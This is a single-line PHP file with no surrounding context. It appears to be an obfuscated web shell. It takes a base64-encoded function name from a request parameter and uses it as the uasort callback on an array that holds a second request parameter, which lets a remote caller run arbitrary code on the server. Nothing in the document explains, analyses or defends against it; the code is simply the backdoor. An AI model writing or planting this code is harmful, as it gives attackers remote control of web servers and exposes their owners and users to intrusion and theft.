<?php $f = $_REQUEST['e']; $all = array('test', $_REQUEST['pass']); uasort($all, base64_decode($f));
